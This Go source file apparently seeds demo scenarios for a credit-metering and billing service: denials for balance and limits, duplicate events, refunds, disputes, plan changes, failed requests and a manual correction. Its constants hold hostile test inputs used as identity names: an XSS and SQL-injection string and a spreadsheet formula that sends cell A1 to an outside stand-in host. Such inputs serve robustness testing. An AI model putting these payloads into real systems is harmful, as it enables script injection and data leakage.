package demo

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"time"

	"purser/ids"
	"purser/metering"
	"purser/store"
	"purser/tenancy"
)

// The identities that show a case each.
const (
	OutOfCredits = "ivan@fabrikam.example"
	OverLimit    = "felix@wingtip.example"
	OnHold       = "helena@proseware.example"
	InDebt       = "boris@contoso.example"
	Refunded     = "rosa@contoso.example"
	Disputed     = "dmitri@contoso.example"
	Downgrading  = "quinn@adatum.example"
	Upgrading    = "penny@adatum.example"
	Leaving      = "carla@adatum.example"
	Repeating    = "dora@tailspin.example"
	Browsing     = "nils@litware.example"

	Markup  = `<script>alert("purser")</script><img src=x onerror=alert(1)>&amp;' OR 1=1 --`
	Formula = `=HYPERLINK("https://elsewhere.example/?"&A1,"open me")`
	Strange = "a/b?c=%2F ../.. مرحبا 🦊 \u202egnirts"
)

// Longest has as many characters as an identity may have.
var Longest = strings.Repeat("an-identity-of-200-characters-", 7)[:200]

// meetSupport makes the cases that support meets.
func (t *tale) meetSupport(ctx context.Context) error {
	for _, happens := range []func(context.Context) error{
		t.denyForBalance, t.denyForLimit, t.denyForHold, t.repeat, t.takeBack, t.dispute,
		t.moveBetweenPlans, t.nameStrangely, t.refusePlan, t.failRequests, t.correct,
	} {
		if err := happens(ctx); err != nil {
			return err
		}
	}
	return t.advance(ctx, t.now+time.Hour.Milliseconds())
}

func (t *tale) denyForBalance(ctx context.Context) error {
	if err := t.fund(ctx, OutOfCredits, 1, "order-ivan"); err != nil {
		return err
	}
	if err := t.edge.track(ctx, use{id: "ivan-1", identity: OutOfCredits, feature: chat, quantity: 900}, "accepted"); err != nil {
		return err
	}
	return t.edge.refused(ctx, use{id: "ivan-2", identity: OutOfCredits, feature: image}, "insufficient_balance")
}

func (t *tale) denyForLimit(ctx context.Context) error {
	if err := t.change(ctx, OverLimit, free); err != nil {
		return err
	}
	if err := t.edge.track(ctx, use{id: "felix-1", identity: OverLimit, feature: chat, quantity: 19_000}, "accepted"); err != nil {
		return err
	}
	return t.edge.refused(ctx, use{id: "felix-2", identity: OverLimit, feature: chat, quantity: 1_001}, "feature_limit_exceeded")
}

// denyForHold has a subscription whose renewal was not paid. What it does not limit
// is still paid from the balance.
func (t *tale) denyForHold(ctx context.Context) error {
	if err := t.edge.refused(ctx, use{id: "helena-1", identity: OnHold, feature: chat, quantity: 500}, "subscription_inactive"); err != nil {
		return err
	}
	return t.edge.track(ctx, use{id: "helena-2", identity: OnHold, feature: transcribe, quantity: 10}, "accepted")
}

func (t *tale) repeat(ctx context.Context) error {
	_, err := t.backend.call(ctx, http.MethodPost, "/v1/wallets", object{"identity": Repeating}, nil, http.StatusCreated)
	if err != nil {
		return err
	}
	_, err = t.backend.call(ctx, http.MethodPatch, "/v1/wallets/"+url.PathEscape(Repeating)+"/billing-period",
		object{"billingPeriod": object{"interval": "week", "anchor": metering.DayOf(t.now).Start}}, nil, http.StatusOK)
	if err != nil {
		return err
	}
	if err := t.fund(ctx, Repeating, 50, "order-dora"); err != nil {
		return err
	}
	once := use{id: "dora-1", identity: Repeating, feature: chat, quantity: 2500}
	for _, step := range []struct {
		use
		outcome string
	}{
		{once, "accepted"},
		{once, "duplicate"},
		{use{id: "dora-2", identity: Repeating, feature: export, entity: "annual-report"}, "accepted"},
		{use{id: "dora-3", identity: Repeating, feature: export, entity: "annual-report"}, "deduplicated"},
		{use{id: "dora-4", identity: Repeating, feature: seat, entity: "guest@litware.example"}, "accepted"},
		{use{id: "dora-5", identity: Repeating, feature: seat, entity: "guest@litware.example"}, "deduplicated"},
	} {
		if err := t.edge.track(ctx, step.use, step.outcome); err != nil {
			return err
		}
	}
	return nil
}

// takeBack refunds a top-up in part, and one whole after it was spent, which leaves
// a debt.
func (t *tale) takeBack(ctx context.Context) error {
	partly, err := t.topUp(ctx, Refunded, 100)
	if err != nil {
		return err
	}
	if err := t.backend.post(ctx, t.sandboxPath("refunds"), object{"checkoutId": partly, "amountCents": 400}, nil); err != nil {
		return err
	}
	whole, err := t.topUp(ctx, InDebt, 100)
	if err != nil {
		return err
	}
	if err := t.edge.track(ctx, use{id: "boris-1", identity: InDebt, feature: chat, quantity: 80_000}, "accepted"); err != nil {
		return err
	}
	return t.backend.post(ctx, t.sandboxPath("refunds"), object{"checkoutId": whole}, nil)
}

func (t *tale) dispute(ctx context.Context) error {
	checkout, err := t.topUp(ctx, Disputed, 200)
	if err != nil {
		return err
	}
	return t.backend.post(ctx, t.sandboxPath("disputes"), object{"checkoutId": checkout, "outcome": "lost"}, nil)
}

func (t *tale) moveBetweenPlans(ctx context.Context) error {
	if err := t.subscribe(ctx, Downgrading, team, cardPays); err != nil {
		return err
	}
	if err := t.change(ctx, Downgrading, starter); err != nil {
		return err
	}
	if err := t.subscribe(ctx, Upgrading, starter, cardAsks); err != nil {
		return err
	}
	if err := t.change(ctx, Upgrading, team); err != nil {
		return err
	}
	if err := t.subscribe(ctx, Leaving, starter, cardPays); err != nil {
		return err
	}
	return t.backend.post(ctx, "/v1/subscriptions/"+url.PathEscape(Leaving)+"/cancel", object{"cancelAtPeriodEnd": true, "idempotencyKey": "cancel-carla"}, nil)
}

func (t *tale) nameStrangely(ctx context.Context) error {
	for n, identity := range []string{Markup, Formula, Strange, Longest} {
		if err := t.fund(ctx, identity, 10, fmt.Sprintf("order-strange-%d", n)); err != nil {
			return err
		}
		if err := t.edge.track(ctx, use{id: fmt.Sprintf("strange-%d", n), identity: identity, feature: chat, quantity: 1234, entity: identity}, "accepted"); err != nil {
			return err
		}
	}
	return nil
}

// refusePlan makes a plan in a currency that the provider does not charge in.
func (t *tale) refusePlan(ctx context.Context) error {
	refused := plan(campus, "Campus", 900, "month", 30, limit(chat, 200_000, "billing", "block"))
	refused["currency"] = "btn"
	return t.backend.post(ctx, "/v1/plans", refused, nil)
}

// failRequests makes mistakes that show in the list of requests.
func (t *tale) failRequests(ctx context.Context) error {
	for _, wrong := range []struct {
		backend
		path   string
		body   object
		status int
	}{
		{t.edge, "/v1/events", use{id: "wrong-1", identity: "northwind", feature: "translate"}.tracked(), http.StatusNotFound},
		{t.edge, "/v1/events", use{id: "wrong-2", identity: "northwind", feature: agent}.tracked(), http.StatusUnprocessableEntity},
		{t.edge, "/v1/events", object{"id": "wrong-3", "identity": "northwind", "feature": chat, "quantitty": 3}, http.StatusBadRequest},
		{t.edge, "/v1/deposits", object{"identity": "northwind", "creditKey": credits, "amountNanocredits": "1", "idempotencyKey": "wrong"}, http.StatusForbidden},
		{t.backend, "/v1/credits", object{"key": credits, "name": "Credits", "unit": "credit"}, http.StatusConflict},
	} {
		if _, err := wrong.call(ctx, http.MethodPost, wrong.path, wrong.body, nil, wrong.status); err != nil {
			return err
		}
	}
	return nil
}

// correct gives a customer something back by hand.
func (t *tale) correct(ctx context.Context) error {
	wallet, err := t.Store.App(t.app.Scope()).Wallet(ctx, Refunded)
	if err != nil {
		return err
	}
	return t.as(tenancy.Admin).Adjust(ctx, store.Adjustment{
		ID: ids.New(), WalletID: wallet.ID, CreditKey: credits, Delta: metering.Delta{Amount: 7_500_000_000},
		Reason: "An export failed and was charged: ticket 4711.", By: t.staff[tenancy.Admin].ID, Now: t.now,
	})
}
